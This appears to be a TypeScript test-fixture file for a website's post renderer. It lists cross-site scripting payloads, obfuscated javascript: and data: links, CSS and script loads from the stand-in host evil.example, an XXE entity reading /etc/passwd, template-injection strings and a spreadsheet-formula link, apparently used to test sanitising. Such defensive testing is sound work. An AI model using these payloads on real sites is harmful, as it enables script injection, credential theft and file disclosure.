import { type Block, LONGEST_LINE } from '../body/block.ts';
import { chapter, heading, paragraph, row, strong, words } from '../body/write.ts';
import { type PostText, TITLE_MAX } from '../text/post-text.ts';

/** What somebody writes in the hope that a browser runs it: a call of `trick`, or a request to this host. */
export const TRICK_HOST = 'evil.example';

/** Texts that a page, a feed or an attribute may take for something else than words. */
export const trickTexts: readonly string[] = [
  '<script>trick()</script>',
  '</script><script>trick()</script>',
  '</title><script>trick()</script>',
  '</textarea></noscript><script>trick()</script>',
  '"><img src=x onerror=trick()>',
  '\' autofocus onfocus=trick() x=\'" autofocus onfocus=trick() x="',
  '<ScRiPt/src=https://evil.example/x.js></sCrIpT>',
  '<svg onload=trick()><text>x</text></svg>',
  '<svg><animate onbegin=trick() attributeName=x dur=1s>',
  '<svg><use href="data:image/svg+xml,<svg onload=trick()>"/></svg>',
  '<math><mi xlink:href="javascript:trick()">x</mi></math>',
  '<img src="https://evil.example/x.png" srcset="https://evil.example/y.png 2x">',
  '<div style="background:url(https://evil.example/x)">',
  '<p style="width:expression(trick())">',
  '</style><style>@import url(https://evil.example/x.css);*{display:none}</style>',
  '<link rel=stylesheet href=https://evil.example/x.css>',
  '<iframe srcdoc="<script>trick()</script>"></iframe>',
  '<object data="data:text/html,<script>trick()</script>"></object>',
  '<base href="https://evil.example/">',
  '<meta http-equiv="refresh" content="0;url=javascript:trick()">',
  '<form action="javascript:trick()"><input type=submit autofocus>',
  '<!--<img src="--><img src=x onerror=trick()>',
  ']]></content:encoded><script>trick()</script><![CDATA[',
  '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>&e;',
  '&lt;script&gt;trick()&lt;/script&gt;&#60;img src=x onerror=trick()&#62;',
  '<a href="java&#x0A;script:trick()">x</a>',
  // biome-ignore lint/suspicious/noTemplateCurlyInString: what a template would run
  '${trick()}{{trick()}}<%= trick() %>#{trick()}',
  '=HYPERLINK("https://evil.example","x")',
  '\u2028trick()\u2029//',
  // Zero width, a mark that turns the direction, halves of letters, and letters of four bytes.
  'a\u200b\u200d\ufeff\u2060\u202e\u2066b\ud800c\udfff<\u0000script>trick()</script>\ud83d\ude00\u{1f468}\u200d\u{1f467}\u{20000}',
  'Z\u0351\u036b\u0343\u032a\u0302\u0301\u0300\u0315\u035b\u0358\u0345A\u0489L\u0337G\u035f'.repeat(8),
];

/** Addresses that no link of a post may lead to. */
export const trickLinks: readonly string[] = [
  'javascript:trick()',
  'JaVaScRiPt:trick()',
  ' javascript:trick()',
  '\u0001javascript:trick()',
  'java\nscript:trick()',
  'java\tscript:trick()',
  'java\u0000script:trick()',
  'javascript&colon;trick()',
  '&#106;avascript:trick()',
  '\u200bjavascript:trick()',
  'javascript\u200b:trick()',
  'javascript://https://skybarrel.test/%0atrick()',
  'data:text/html,<script>trick()</script>',
  'DATA:text/html;base64,PHNjcmlwdD50cmljaygpPC9zY3JpcHQ+',
  'vbscript:trick()',
  'blob:https://skybarrel.test/1',
  'file:///etc/passwd',
  'view-source:https://evil.example/',
  '//evil.example',
  '/\\evil.example',
  '/\t/evil.example',
  '\\\\evil.example',
  'http://evil.example',
  'https:evil.example',
  'https:///evil.example',
  'https://evil.example/"onclick="trick()',
  'https://evil.example/<script>',
  'https://evil.example/a b',
  'https://evil.example/\u202egnp.exe',
  'https://evil.example/\ud800',
  'rates',
  '',
];

/** Pieces of markup that are no part of a text. Whoever reads a paste leaves nothing of them but `kept`. */
export const trickMarkup: readonly string[] = [
  '<script>trick()</script>',
  '<SCRIPT SRC=https://evil.example/x.js></SCRIPT>',
  '<style>@import url(https://evil.example/x.css);p{background:url(https://evil.example/x)}</style>',
  '<svg onload=trick()><script>trick()</script><text>trick</text></svg>',
  '<math><mtext><img src=x onerror=trick()></mtext></math>',
  '<img src=x onerror=trick()>',
  '<img src="data:image/svg+xml,<svg onload=trick()>">',
  '<p onclick="trick()" style="width:expression(trick());background:url(https://evil.example/x)">kept</p>',
  '<iframe srcdoc="<script>trick()</script>">trick</iframe>',
  '<object data="data:text/html,<script>trick()</script>">trick</object>',
  '<embed src="https://evil.example/x">',
  '<link rel=stylesheet href=https://evil.example/x.css>',
  '<meta http-equiv=refresh content="0;url=javascript:trick()">',
  '<base href="https://evil.example/">',
  '<template><script>trick()</script></template>',
  '<!-- trick() --><!--[if mso]>trick<![endif]-->',
  ...trickLinks.map((to) => `<a href="${to.replaceAll('"', '&quot;')}">kept</a>`),
];

/** Lists in each other, as deep as nobody writes them. */
export const deepLists = (depth: number): string =>
  `${'<ul><li>'.repeat(depth)}deep${'</li></ul>'.repeat(depth)}`;

/** A table larger than any page shows. */
export const hugeTable = (rows: number, columns: number): string =>
  `<table>${`<tr>${'<td>cell</td>'.repeat(columns)}</tr>`.repeat(rows)}</table>`;

/** A block of each kind that has words, each of which are these. @param place tells its headings from those of other such blocks. */
export const everyBlockSaying = (text: string, place = ''): readonly Block[] => {
  const line = text.slice(0, LONGEST_LINE);
  const said = words(text);
  return [
    paragraph(text, strong(text), { text, emphasis: true }, { link: '/rates', words: [{ text }] }),
    chapter(`one${place}`, line),
    heading(`two${place}`, line),
    { kind: 'list', ordered: true, items: [{ words: said, below: { ordered: false, items: [said] } }] },
    { kind: 'steps', items: [{ title: said, text: said }] },
    { kind: 'table', caption: line, corner: line, columns: [line], rows: [row(text, text)] },
    { kind: 'quote', words: said, source: line },
    { kind: 'questions', items: [{ question: line, answer: said }] },
    {
      kind: 'live',
      live: 'price',
      title: text.slice(0, TITLE_MAX),
      to: 'GY',
      goods: [{ size: [18, 18, 18], weight: 40 }],
      wishes: {},
    },
  ];
};

/** A post all of whose words are these. */
export const postSaying = (text: string): PostText => {
  const title = text.slice(0, TITLE_MAX);
  return {
    title,
    description: text.slice(0, 300),
    lead: words(text),
    body: [...everyBlockSaying(text)],
    ending: {
      title,
      text: text.slice(0, 300),
      action: { label: text.slice(0, 40), to: '/rates' },
      second: { label: text.slice(0, 40), to: '/contact' },
    },
  };
};
